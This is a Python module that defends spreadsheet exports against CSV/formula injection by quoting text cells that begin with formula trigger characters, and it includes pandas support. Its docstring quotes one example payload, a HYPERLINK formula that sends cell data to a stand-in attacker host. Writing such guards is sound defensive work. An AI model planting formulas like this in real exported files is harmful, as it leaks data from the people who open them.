"""Text cells that a spreadsheet will not run: the one guard every CSV and XLSX writer uses.

Applicant, assignee and owner names come from public bulk data that anyone can write into. A
name such as ``=HYPERLINK("http://evil.example/?leak="&A1,"click")`` written verbatim into a
CSV or an XLSX cell becomes a live formula when a statistician opens the file. Following OWASP's
CSV-injection guidance, a text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is prefixed with a single quote, which spreadsheets show as plain text.

Numbers are never changed: ``int``/``float``/``Decimal`` values pass through untouched, and so
does text that is itself a plain number (``"-12"``, ``"+3.5"``), which a spreadsheet cannot run.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?")


def is_dangerous(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula (or DDE command)."""
    return text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text)


def neutralise(value: Any) -> Any:
    """The value to write into a CSV or XLSX cell: dangerous text quoted, everything else as is."""
    if isinstance(value, str) and is_dangerous(value):
        return "'" + value
    return value


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in row]


def neutralise_rows(rows: Iterable[Sequence[Any]]) -> list[list[Any]]:
    return [neutralise_row(row) for row in rows]


def neutralise_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame with every text cell (and column name) neutralised."""
    from pandas.api.types import is_object_dtype, is_string_dtype

    out = frame.copy()
    for column in out.columns:
        if is_object_dtype(out[column].dtype) or is_string_dtype(out[column].dtype):
            out[column] = _neutralised_column(out[column])
    out.columns = [neutralise(c) if isinstance(c, str) else c for c in out.columns]
    return out


def _neutralised_column(series: Any) -> Any:
    """``series`` with its dangerous text cells quoted: only the cells that begin with a trigger
    go through ``neutralise`` (a national survey's export has millions of cells, almost none of
    them dangerous)."""
    try:
        candidates = series.str.startswith(FORMULA_TRIGGERS, na=False).astype(bool)
    except (AttributeError, TypeError):  # an object column without text: cell by cell
        return series.map(neutralise)
    if not candidates.any():
        return series
    series = series.copy()
    series[candidates] = series[candidates].map(neutralise)
    return series
